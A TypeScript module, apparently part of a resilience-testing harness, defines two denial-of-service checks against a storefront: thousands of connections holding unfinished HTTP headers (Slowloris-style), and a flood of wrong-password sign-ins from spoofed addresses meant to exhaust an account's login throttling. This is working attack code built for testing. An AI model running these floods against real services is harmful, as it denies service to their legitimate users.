import { setTimeout as wait } from "node:timers/promises";
import type { Attack, Target } from "./attack";
import { attackerAddress, formHeaders, headOf, holdAndCut, openSockets, statusFor, visitorOf, writeAll } from "./wires";

/** Much that waits, and ends at the same moment or holds what others need. */

/** The storefront gives a head up after 10 s, and looks every 2 s. */
const HEAD_TIME_MS = 14_000;

async function unfinishedHeads(target: Target): Promise<string[]> {
  const sockets = await openSockets(target, target.connectionsMax);
  await Promise.all(sockets.map((socket) => writeAll(socket, "GET / HTTP/1.1\r\nHost: x\r\n", 2_000)));
  await holdAndCut(sockets, HEAD_TIME_MS);
  return [];
}

const SLOWED = "siege-owner@example.com";
/** An account is slowed after 50 wrong passwords, of which an address has five; four more, and each waits 8 s. */
const WRONG = 54;
const WRONG_PER_ADDRESS = 5;
const ADDRESSES = 5;
const POSTS_PER_ADDRESS = 28;
const DEADLINE_MS = 20_000;

/** Opens the sign-in; each call of the result posts a wrong password. */
async function signInFrom(target: Target, from: string) {
  const visitor = visitorOf(target, "ulan=en_US", from);
  const page = await visitor.open("/Login");
  return (mobileNumber: string, loginPword: string) => {
    const body = new URLSearchParams({ csrf: page.field("csrf") ?? "", mobileNumber, loginPword }).toString();
    const headers = { ...formHeaders(target), Cookie: String(visitor.jar), "Content-Length": body.length };
    return statusFor(target, `${headOf(target, "POST /Login", headers)}${body}`, { from, deadlineMs: DEADLINE_MS });
  };
}

async function prepareSignIns(target: Target) {
  await Promise.all(
    Array.from({ length: Math.ceil(WRONG / WRONG_PER_ADDRESS) }, async (_, address) => {
      const post = await signInFrom(target, attackerAddress(300 + address));
      for (let n = 0; n < WRONG_PER_ADDRESS; n += 1) await post(SLOWED, `wrong-${address}-${n}`);
    }),
  );
  const senders = await Promise.all(
    Array.from({ length: ADDRESSES }, (_, address) => signInFrom(target, attackerAddress(400 + address))),
  );
  const stranger = await signInFrom(target, attackerAddress(500));
  return async () => {
    const slowed = senders.flatMap((post) => Array.from({ length: POSTS_PER_ADDRESS }, () => post(SLOWED, "wrong")));
    await wait(2_000);
    const status = await stranger("another@example.com", "wrong");
    await Promise.all(slowed);
    return status === 401 ? [] : [`another visitor's sign-in got ${status}`];
  };
}

export const WAITING: readonly Attack[] = [
  {
    name: "heads-unfinished",
    item: "13",
    sent: "5,000 connections (1,000 through a proxy) with heads that do not end, all given up at once",
    prepare: (target) => Promise.resolve(() => unfinishedHeads(target)),
  },
  {
    name: "sign-ins-slowed",
    item: "13",
    sent: "5 addresses, each with 28 sign-ins of an account whose sign-ins are slowed by 8 s",
    prepare: prepareSignIns,
  },
];
